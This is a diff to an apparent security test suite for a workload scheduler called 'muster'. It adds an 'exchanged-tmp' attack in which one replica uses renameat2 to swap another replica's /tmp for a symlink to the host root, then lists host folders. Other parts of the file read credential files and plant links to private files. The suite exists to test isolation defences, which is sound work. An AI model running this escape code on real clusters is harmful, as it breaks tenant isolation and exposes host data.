@@ -2,16 +2,23 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
+import time
 from pathlib import Path
 from typing import TYPE_CHECKING, Final
 
+from muster.options.v1 import options_pb2
+from muster.workload.v1 import workload_pb2
+from muster_client.errors import WaitTimedOut
 from tests.attacks.attack import Actor, Attack, Verdict, broken, held
+from tests.attacks.stage import python
 
 if TYPE_CHECKING:
     from tests.attacks.stage import Stage
 
 _PROOF: Final = "tests/rules/test_attacks_replicas.py"
+_SERIES_SECONDS: Final = 16.0
 READ_FILES: Final = """
 import json, os
 for path in json.loads({paths!r}):
@@ -89,6 +96,35 @@ print("PLANTED")
 """
 """Links to a private file wherever the agent might look."""
 
+LOOK_AROUND: Final = """
+import os
+for folder in ("/", "/var", "/home", "/mnt"):
+    try:
+        print("REACHED", folder, os.listdir(folder)[:3])
+    except OSError as error:
+        print("NOT", folder, error.strerror)
+print("TRIED")
+"""
+"""List folders of the machine that no replica is granted."""
+
+EXCHANGE_TMP: Final = f"""
+import ctypes, os, time
+rename = ctypes.CDLL(None).renameat2
+run = os.environ["MUSTER_RUN_DIR"]
+until = time.monotonic() + 12
+seen = set(os.listdir(run)) if os.environ["POD_INDEX"] == "0" else None
+while seen is not None and time.monotonic() < until:
+    for name in set(os.listdir(run)) - seen:
+        own = os.path.join(run, name)
+        if os.path.isdir(own + "/told"):
+            seen.add(name)
+            os.symlink("/", own + "/link")
+            rename(-100, (own + "/tmp").encode(), -100, (own + "/link").encode(), 2)
+            print("EXCHANGED", name)
+{LOOK_AROUND}
+"""
+"""The first replica of a series exchanges the /tmp of each later one for a link to the machine's root."""
+
 
 def _credentials(stage: Stage) -> list[Path]:
     return [path for path in sorted(stage.layout.credentials.rglob("*")) if path.is_file()]
@@ -132,6 +168,28 @@ async def links(stage: Stage) -> Verdict:
     return held("no link was followed") if "PLANTED" in log else broken(f"the replica did not try: {log[-200:]}")
 
 
+async def exchanged_tmp(stage: Stage) -> Verdict:
+    """Have the agent mount the root of the machine as the /tmp of the next replica of a series."""
+    spec = workload_pb2.WorkloadSpec(
+        kind=options_pb2.KIND_TRAINING,
+        name=f"attack-a2-{time.time_ns()}",
+        image="python",
+        command=python(EXCHANGE_TMP),
+        completions=24,
+        parallelism=2,
+        backoff_limit=100,
+    )
+    async with stage.client(Actor.RESEARCHER) as muster:
+        made = await muster.submit(spec, project=stage.project)
+        with contextlib.suppress(WaitTimedOut):  # as many as the time allows
+            await muster.wait(made.id, timeout=_SERIES_SECONDS)
+        log = b"".join([piece.data async for piece in muster.logs(made.id)]).decode(errors="replace")
+        await muster.delete(made.id)
+    if "EXCHANGED" not in log:
+        return broken(f"no /tmp was exchanged in time: {log[-200:]}")
+    return judged(log, "REACHED")
+
+
 def judged(log: str, *bad: str) -> Verdict:
     """Held where the replica tried to the end and printed no line that begins with one of the words."""
     found = [line for line in log.splitlines() if line.startswith(bad)]
@@ -146,4 +204,5 @@ ATTACKS: Final = (
     Attack("A2", "services-in-proc", Actor.REPLICA, other_processes, f"{_PROOF}::test_unconfined_it_sees_processes"),
     Attack("A2", "powers-of-root", Actor.REPLICA, powers, f"{_PROOF}::test_unconfined_it_keeps_its_powers"),
     Attack("A2", "links-for-the-agent", Actor.REPLICA, links, f"{_PROOF}::test_a_reader_that_follows_links_is_led"),
+    Attack("A2", "exchanged-tmp", Actor.REPLICA, exchanged_tmp, f"{_PROOF}::test_a_tmp_opened_by_its_path_is_followed"),
 )
